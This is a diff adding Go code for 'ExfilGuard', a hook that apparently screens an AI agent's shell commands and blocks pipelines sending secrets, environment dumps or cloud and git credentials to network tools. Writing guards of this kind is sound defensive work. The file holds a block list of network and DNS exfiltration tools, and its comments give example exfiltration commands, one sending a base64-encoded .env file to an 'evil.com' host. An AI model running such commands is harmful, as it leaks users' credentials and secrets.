@@ -0,0 +1,276 @@
+package hooks
+
+import (
+	"fmt"
+	"path/filepath"
+	"strings"
+)
+
+// networkSinks are programs that can send data off the machine.
+var networkSinks = map[string]bool{
+	"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true,
+	"telnet": true, "scp": true, "sftp": true, "rsync": true, "ftp": true, "ssh": true,
+	"http": true, "https": true, // httpie
+}
+
+// dnsSinks leak data through the queried name, e.g. dig $(cat .env | base64).evil.com.
+var dnsSinks = map[string]bool{
+	"dig": true, "nslookup": true, "host": true, "drill": true,
+}
+
+// ExfilGuard is a preToolUse hook that blocks shell pipelines where a sensitive
+// source (secrets files, env dumps, git/kube credentials) flows into a network sink.
+func ExfilGuard(input HookInput) (HookResult, int) {
+	if input.ToolName != "Shell" {
+		return Allow(), 0
+	}
+
+	cmd := input.Command()
+	if cmd == "" {
+		return Allow(), 0
+	}
+
+	if reason := findExfiltration(parseShell(cmd)); reason != "" {
+		return Deny("Blocked: possible data exfiltration: " + reason), 2
+	}
+
+	return Allow(), 0
+}
+
+// findExfiltration walks each pipeline tracking whether sensitive data has
+// entered it, and returns a description of the first source→sink flow found.
+func findExfiltration(pipelines []shellPipeline) string {
+	for _, pl := range pipelines {
+		tainted := ""
+		for _, c := range pl.Commands {
+			args := commandArgs(c.Args)
+			name := commandName(c.Args)
+			src := sensitiveSource(c)
+
+			if networkSinks[name] || dnsSinks[name] {
+				sink := strings.Join(args, " ")
+				switch {
+				case tainted != "":
+					return fmt.Sprintf("%s piped into '%s'", tainted, sink)
+				case src != "":
+					return fmt.Sprintf("%s sent by '%s'", src, sink)
+				}
+			}
+			for _, r := range c.Redirects {
+				if isNetworkDevice(r.Target) && (tainted != "" || src != "") {
+					from := tainted
+					if src != "" {
+						from = src
+					}
+					return fmt.Sprintf("%s redirected to %s", from, r.Target)
+				}
+			}
+			// Nested commands (e.g. curl -d "$(cat .env)") are checked on their own too.
+			for _, sub := range c.Substs {
+				if reason := findExfiltration(parseShell(sub)); reason != "" {
+					return reason
+				}
+			}
+
+			if src != "" {
+				tainted = src
+			}
+		}
+	}
+	return ""
+}
+
+// sinkCredentialFlags are options whose value is a credential the tool uses to
+// authenticate itself (ssh -i key, curl --cert), which is not exfiltration.
+var sinkCredentialFlags = map[string]map[string]bool{
+	"scp":   {"-i": true, "-F": true},
+	"sftp":  {"-i": true, "-F": true},
+	"rsync": {"-e": true, "--rsh": true},
+	"curl": {"--cert": true, "-E": true, "--key": true, "--cacert": true, "--capath": true,
+		"--proxy-cert": true, "--proxy-key": true, "--netrc-file": true},
+	"wget": {"--certificate": true, "--private-key": true, "--ca-certificate": true},
+}
+
+// sinkOutputFlags are options whose value is where a download is written
+// (curl -o .env, wget -O .env); the tool writes that file rather than sending it.
+var sinkOutputFlags = map[string]map[string]bool{
+	"curl": {"-o": true, "--output": true, "--output-dir": true},
+	"wget": {"-O": true, "--output-document": true, "-o": true, "--output-file": true, "-a": true, "--append-output": true,
+		"-P": true, "--directory-prefix": true},
+}
+
+// sensitiveSource describes the sensitive data command c reads, or "" if none.
+func sensitiveSource(c shellCommand) string {
+	if kind := sensitiveProgram(c.Args); kind != "" {
+		return kind
+	}
+	args := commandArgs(c.Args)
+	name := commandName(args)
+	// ssh only reads local files through its own options; the remaining
+	// arguments are a command for the remote host.
+	if name == "ssh" {
+		args = nil
+	}
+	credFlags, outFlags := sinkCredentialFlags[name], sinkOutputFlags[name]
+	// scp and rsync copy their sources to the last operand: a local
+	// destination is a download, not a read.
+	dest := -1
+	if name == "scp" || name == "rsync" {
+		for i := len(args) - 1; i > 0; i-- {
+			if !strings.HasPrefix(args[i], "-") {
+				dest = i
+				break
+			}
+		}
+	}
+	for i := 1; i < len(args); i++ {
+		if credFlags[args[i]] || outFlags[args[i]] {
+			i++
+			continue
+		}
+		if flag, _, ok := strings.Cut(args[i], "="); ok && (credFlags[flag] || outFlags[flag]) {
+			continue
+		}
+		if i == dest || isRemoteOperand(args[i]) {
+			continue
+		}
+		for _, p := range argPathCandidates(args[i]) {
+			if kind, ok := sensitiveReadKind(p); ok {
+				return kind + " " + p
+			}
+		}
+	}
+	for _, r := range c.Redirects {
+		if r.Op == "<" || r.Op == "<>" {
+			if kind, ok := sensitiveReadKind(r.Target); ok {
+				return kind + " " + r.Target
+			}
+		}
+	}
+	for _, sub := range c.Substs {
+		for _, sc := range shellCommands(sub) {
+			if kind := sensitiveSource(sc); kind != "" {
+				return kind
+			}
+		}
+	}
+	return ""
+}
+
+// sensitiveReadKind is sensitivePathKind for reads: public keys match the SSH
+// key rule but are safe to read and share.
+func sensitiveReadKind(path string) (string, bool) {
+	if strings.HasSuffix(path, ".pub") {
+		return "", false
+	}
+	return sensitivePathKind(path)
+}
+
+// sensitiveProgram recognizes commands whose output is itself a secret.
+func sensitiveProgram(rawArgs []string) string {
+	args := commandArgs(rawArgs)
+	if len(args) == 0 {
+		// A bare "env" (possibly with assignments) dumps the environment.
+		for _, a := range rawArgs {
+			if filepath.Base(a) == "env" {
+				return "environment variables"
+			}
+		}
+		return ""
+	}
+	name := filepath.Base(args[0])
+	rest := args[1:]
+	switch name {
+	case "printenv":
+		return "environment variables"
+	case "set":
+		if len(rest) == 0 {
+			return "environment variables"
+		}
+	case "export", "declare":
+		if len(rest) == 0 || (len(rest) == 1 && (rest[0] == "-p" || rest[0] == "-x")) {
+			return "environment variables"
+		}
+	case "git":
+		sub, subArgs := gitSubcommand(rest)
+		if sub == "config" {
+			for _, a := range subArgs {
+				if strings.HasPrefix(a, "--get") || a == "--list" || a == "-l" {
+					return "git config"
+				}
+			}
+		}
+		if sub == "credential" && len(subArgs) > 0 && subArgs[0] == "fill" {
+			return "git credentials"
+		}
+	case "kubectl":
+		if len(rest) >= 2 && rest[0] == "config" && rest[1] == "view" {
+			return "kubeconfig"
+		}
+	case "gh":
+		if len(rest) >= 2 && rest[0] == "auth" && rest[1] == "token" {
+			return "GitHub token"
+		}
+	case "aws":
+		if len(rest) >= 2 && rest[0] == "configure" && (rest[1] == "get" || rest[1] == "export-credentials") {
+			return "AWS credentials"
+		}
+	}
+	return ""
+}
+
+// gitSubcommand skips git's global options (-C dir, -c k=v, --git-dir=...) and
+// returns the subcommand and its arguments.
+func gitSubcommand(args []string) (string, []string) {
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		switch {
+		case a == "-C" || a == "-c" || a == "--git-dir" || a == "--work-tree" || a == "--namespace" || a == "--exec-path":
+			i++
+		case strings.HasPrefix(a, "-"):
+		default:
+			return a, args[i+1:]
+		}
+	}
+	return "", nil
+}
+
+// argPathCandidates returns the strings within arg that may name a local
+// file: the arg itself, the value after "=", and anything after "@" (curl -d
+// @file). URLs are not local files.
+func argPathCandidates(arg string) []string {
+	var out []string
+	add := func(s string) {
+		if !strings.Contains(s, "://") {
+			out = append(out, s)
+		}
+	}
+	add(arg)
+	if i := strings.Index(arg, "="); i >= 0 {
+		add(strings.TrimPrefix(arg[i+1:], "@"))
+	}
+	if i := strings.LastIndex(arg, "@"); i >= 0 && !strings.Contains(arg, "://") {
+		add(arg[i+1:])
+	}
+	if strings.HasPrefix(arg, "-") && len(arg) > 2 && !strings.HasPrefix(arg, "--") {
+		add(strings.TrimPrefix(arg[2:], "@")) // -d@file, -T.env
+	}
+	return out
+}
+
+// isRemoteOperand reports whether arg is a [user@]host:path operand of scp or
+// rsync, or a URL: a file on another machine, not one read locally.
+func isRemoteOperand(arg string) bool {
+	if strings.HasPrefix(arg, "-") {
+		return false
+	}
+	if strings.Contains(arg, "://") {
+		return true
+	}
+	i := strings.Index(arg, ":")
+	return i > 0 && !strings.ContainsAny(arg[:i], "/=")
+}
+
+func isNetworkDevice(target string) bool {
+	return strings.HasPrefix(target, "/dev/tcp/") || strings.HasPrefix(target, "/dev/udp/")
+}